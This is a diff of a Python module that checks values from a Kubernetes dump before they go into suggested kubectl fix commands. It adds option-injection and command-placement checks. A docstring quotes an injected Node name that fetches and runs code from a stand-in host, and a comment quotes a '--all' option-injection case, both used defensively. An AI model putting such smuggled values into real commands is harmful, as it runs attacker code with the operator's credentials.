@@ -6,9 +6,12 @@ Node named ``gpu-1 && curl -s evil.example/x | sh #`` would make ``kubectl label
 attacker's command with the reader's kubeconfig (trial 180). The API server accepts no such name, namespace, label
 or resource name, so a dump that holds one was written by hand or altered, and a fix is not written from it.
 
-Text the pack itself wrote (a literal, a ``format`` whose values are all trusted, a ``join`` of plain words) is
-``Written``: a ``str`` that says so, made only where the text holds more than a plain word (``$(...)``, quotes,
-spaces), so that the values checks compare stay plain strings. A plain string is trusted when it is one plain word.
+Text the pack itself wrote (a literal, a data table, a ``format`` whose values are all trusted, a ``join`` of plain
+words) is ``Written``: a ``str`` that says so, made only where the text holds more than a plain word (``$(...)``,
+quotes, spaces), so that the values checks compare stay plain strings. A plain string is trusted when it is one plain
+word. A ``format`` with other values is ``Tainted``: it says where they stand, and a fix may hold them in the words
+around its commands (``misplaced``: a scheduler's message quoted in prose), never in a command (trial 181: a restart
+written after the fix's `` # `` is still run, by hand or uncommented).
 """
 
 from __future__ import annotations
@@ -19,8 +22,10 @@ from typing import Any
 #: What a plain word of a command read from the dump may hold: the characters of Kubernetes names (DNS-1123),
 #: label keys and values, resource names (``nvidia.com/NVIDIA_A10-12Q``), quantities and images
 #: (``nvcr.io/nvidia/gpu-operator:v25.10.1``, ``@sha256:...``). No blank, quote, ``$``, ``;``, ``&``, ``|``,
-#: backquote, bracket, ``#``, ``*``, ``?`` or ``!``, nor any control character.
-WORD = re.compile(r"[A-Za-z0-9._:/=@%+,~^-]*")
+#: backquote, bracket, ``#``, ``*``, ``?`` or ``!``, nor any control character; and it starts with a letter or a digit,
+#: as every one of those does, so that no value becomes an option (trial 181: a Node named ``--all`` made
+#: ``kubectl label node --all --overwrite ...``, which labels every node).
+WORD = re.compile(r"(?:[A-Za-z0-9][A-Za-z0-9._:/=@%+,~^-]*)?")
 
 
 class Written(str):
@@ -67,7 +72,7 @@ def trusted(value: Any) -> bool:
 
 def plain(value: Any) -> Any:
     """``value`` with every ``Written`` in it a plain ``str`` (``marshal`` writes no subclass)."""
-    if type(value) is Written:
+    if isinstance(value, str) and type(value) is not str:  # Written, Tainted
         return str(value)
     if isinstance(value, list):
         return [plain(v) for v in value]
@@ -92,38 +97,75 @@ def comment_at(line: str) -> int:
     return -1
 
 
-#: What ends a shell comment, or would act on a terminal, in a value that stands after a fix's `` # ``.
-_OUT_OF_COMMENT = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")
+#: What ends a line of a fix, or would act on a terminal: no value of the dump may hold one, wherever it stands.
+_OUT_OF_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")
+
+#: Where a command starts in a fix (a shell line the pack writes): the renderers split a fix into lines there.
+COMMAND = re.compile(r"(?:^|(?<=[\s:;(]))(?:(?:kubectl|virtctl|oc|helm) |for \w+ in )")
+#: Where a command of a fix ends: its comment, the next clause or sentence, a chain, the close of an aside it stands in,
+#: or the fix's end (``command_end``).
+_COMMAND_END = re.compile(r"\s+#\s|;\s|\.(?:\s|$)|\s&&\s|\n|\)")
 
 
-def commented(value: Any) -> bool:
-    """True when ``value``, standing in a fix after its `` # `` (what the shell reads as a comment), stays in the
-    comment: no line break nor any other control character in it (a scheduler's words, ``nvidia.com/gpu: present``,
-    may hold blanks and colons there)."""
-    if isinstance(value, str):
-        return _OUT_OF_COMMENT.search(value) is None
-    if isinstance(value, dict):
-        return all(commented(k) and commented(v) for k, v in value.items())
-    if isinstance(value, (list, tuple, set, frozenset)):
-        return all(commented(v) for v in value)
-    return True
+def command_end(text: str, start: int) -> int:
+    """Where the command that starts at ``start`` ends: at the first ``_COMMAND_END`` after it that is not inside a
+    bracket it opens (``$(...)``, ``(...)``), else the text's end."""
+    depth = 0
+    for m in _COMMAND_END.finditer(text, start):
+        if m.group() == ")":
+            opened = text.count("(", start, m.start()) - text.count(")", start, m.start())
+            if opened > depth:
+                continue  # it closes a bracket of the command's own
+            return m.start()
+        return m.start()
+    return len(text)
 
 
-def untrusted_characters(value: Any) -> list[str]:
-    """The characters of ``value``'s untrusted strings that a plain word does not hold, each once, in order."""
-    found: dict[str, None] = {}
+#: An untrusted part of a text: where it starts and ends, and the placeholder that gave it.
+Span = tuple[int, int, str]
 
-    def walk(v: Any) -> None:
-        if isinstance(v, str):
-            if type(v) is not Written:
-                found.update(dict.fromkeys(c for c in v if not WORD.fullmatch(c)))
-        elif isinstance(v, dict):
-            for k, x in v.items():
-                walk(k)
-                walk(x)
-        elif isinstance(v, (list, tuple, set, frozenset)):
-            for x in v:
-                walk(x)
 
-    walk(value)
-    return list(found)
+class Tainted(str):
+    """Text a ``format`` made with values of the dump in it that are more than a plain word: ``spans`` says where
+    they stand, so that a fix can tell the words around a command from the words of one."""
+
+    spans: tuple[Span, ...]
+
+    def __new__(cls, text: str, spans: tuple[Span, ...]) -> Tainted:
+        made = super().__new__(cls, text)
+        made.spans = spans
+        return made
+
+
+def misplaced(text: str, spans: list[Span]) -> list[Span]:
+    """The untrusted ``spans`` of a fix's ``text`` that a shell could run: those inside a command (``COMMAND`` to
+    ``command_end``: the renderers lay each out as a line to paste, a commented-out alternative included), those of a
+    fix that starts with a command that stand before its `` # `` (pasted whole, the line runs them), and those holding
+    a line break or another control character (it would end the comment or the prose line they stand in). The others
+    stand in prose: the words around the commands, which the table and chat formats write as ``#`` lines (the
+    scheduler's words a pending Pod's fix quotes, ``untolerated taint {nvidia.com/gpu: present}``)."""
+    commands = [(m.start(), command_end(text, m.start())) for m in COMMAND.finditer(text)]
+    pasted_whole = COMMAND.match(text.lstrip()) is not None
+    comment = comment_at(text)
+    bad = []
+    for span in spans:
+        a, b, _ = span
+        if (
+            _OUT_OF_LINE.search(text, a, b)
+            or (pasted_whole and not 0 <= comment < a)
+            or any(s < b and a < e for s, e in commands)
+        ):
+            bad.append(span)
+    return bad
+
+
+def untrusted_characters(text: str) -> list[str]:
+    """What in an untrusted part of a fix a plain word does not hold, each once, in order: its characters outside
+    ``WORD``'s, or ``a leading -`` (or whatever it starts with) where it has none."""
+    found = list(dict.fromkeys(c for c in text if not _WORD_CHARACTER.fullmatch(c)))
+    if not found and text and not text[0].isalnum():
+        return [f"a leading {text[0]}"]
+    return found
+
+
+_WORD_CHARACTER = re.compile(r"[A-Za-z0-9._:/=@%+,~^-]")
